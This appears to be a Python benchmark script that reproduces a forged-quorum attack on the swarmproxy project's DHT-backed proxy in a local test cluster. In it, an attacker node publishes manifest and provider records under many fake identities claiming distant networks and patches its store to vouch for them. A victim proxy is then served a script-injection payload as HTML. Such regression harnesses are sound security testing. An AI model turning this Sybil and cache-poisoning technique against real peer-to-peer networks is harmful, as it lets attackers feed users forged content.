"""The forged-quorum attack against a victim proxy, measured: run it against any checkout of swarmproxy.

One attacker on one address (127.0.0.66) signs a manifest of its own bytes under K fresh keys, each claiming a
host in another network, announces its bytes under those keys, and its DHT node swears it saw every claim. Three
honest nodes store records; a victim proxy then GETs the URL from an origin slow to send its headers (a T switch,
no origin byte to check against). Prints how many forged records honest nodes accepted, whether the victim was
served the attacker's bytes, and whether it kept them.

    python -m bench.attacks.forged_quorum [--keys K]

Works on trees from before the fix too (records without a host; the attack then claims the hosts in its provider
records, which is what those trees counted).
"""

from __future__ import annotations

import argparse
import asyncio
import hashlib
import inspect
import pathlib
import tempfile
import time

from dht.identity import NodeIdentity
from dht.records import ManifestRecord, ProviderRecord, Transport
from proxy.demo.local_swarm import Cluster
from proxy.demo.slow_origin import SlowOrigin
from proxy.engine import url_key
from swarm.content.manifest import build_manifest

SIZE = 600_000
DATA = (hashlib.sha256(b"the origin's file").digest() * (SIZE // 32 + 1))[:SIZE]
EVIL = (b"<script>alert('the attacker')</script>" * (SIZE // 38 + 1))[:SIZE]
NETWORKS = ["198.51.100.7", "203.0.113.9", "192.0.2.44", "100.64.7.1", "198.18.0.1", "2001:db8:77::1"]
SWITCH = {"first_byte_timeout": "0.3", "min_rate": "160k", "rate_window": "0.5"}
RECORDS_CARRY_HOST = "host" in inspect.signature(ManifestRecord.create).parameters


def _lie(dht) -> None:
    """Make the attacker's storing node swear to every claim (on trees that report observed addresses)."""
    store = dht.store
    if hasattr(store, "get_observed"):
        original = store.get_observed
        store.get_observed = lambda kind, key, now: [(r, getattr(r, "host", None)) for r, _ in original(kind, key, now)]


async def run(keys: int, workdir: pathlib.Path) -> dict:
    origin = SlowOrigin()
    await origin.start()
    honest = Cluster(workdir / "honest", **SWITCH)
    bad = Cluster(workdir / "attacker", hosts=["127.0.0.66"], **SWITCH)
    try:
        await honest.grow(3)
        bad.bootstrap = honest.nodes[0].addresses["dht"]
        attacker = await bad.add()
        _lie(attacker.dht)
        url = origin.add("/setup.bin", DATA, headers={"Content-Type": "application/octet-stream"})
        path = workdir / "evil.bin"
        path.write_bytes(EVIL)
        manifest, layer = build_manifest([EVIL], SIZE, url=url, validator='"evil"', content_type="text/html")
        attacker.engine.store.adopt(manifest, layer, path, pin=True)
        for swarm in attacker.engine.nodes.values():
            swarm.share(manifest.root)
        now, port = time.time(), attacker.engine.address[1]
        for index in range(keys):
            claimed = NETWORKS[index % len(NETWORKS)]
            identity = NodeIdentity.generate()
            fields = dict(repr_key=url_key(url), content_root=manifest.root, size=SIZE,
                          block_size=manifest.block_size, validator='"evil"', now=now, ttl_s=3600)
            if RECORDS_CARRY_HOST:
                fields["host"] = claimed
            await attacker.dht.publish(ManifestRecord.create(identity, **fields))
            # Reachable at its real address under the first key; the others claim the far networks.
            provider_host = "127.0.0.66" if index == 0 or RECORDS_CARRY_HOST else claimed
            await attacker.dht.publish(ProviderRecord.create(identity, root=manifest.root, host=provider_host,
                                                             port=port, transports=Transport.TCP, now=now,
                                                             ttl_s=3600))
        accepted = sum(n.dht.store.count(2) for n in honest.nodes)
        origin.first_byte_delay = 1.0
        victim = await honest.add()
        status, headers, body = await honest.get(victim, url)
        record = honest.last_record(victim)
        return {
            "tree": "records carry an attested host" if RECORDS_CARRY_HOST else "hosts taken from records",
            "attacker_keys": keys,
            "forged_records_accepted_by_honest_nodes": accepted,
            "victim_status": status,
            "victim_served_attacker_bytes": body == EVIL,
            "victim_served_origin_bytes": body == DATA,
            "victim_content_type": headers.get("Content-Type"),
            "victim_etag": headers.get("ETag"),
            "manifest_source": record["manifest_source"],
            "victim_kept_attacker_content": manifest.root in victim.engine.store,
        }
    finally:
        await bad.close()
        await honest.close()
        await origin.stop()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--keys", type=int, default=3, help="attacker keys, each claiming another network (3)")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as directory:
        result = asyncio.run(run(args.keys, pathlib.Path(directory)))
    for name, value in result.items():
        print(f"{name:42} {value}")


if __name__ == "__main__":
    main()
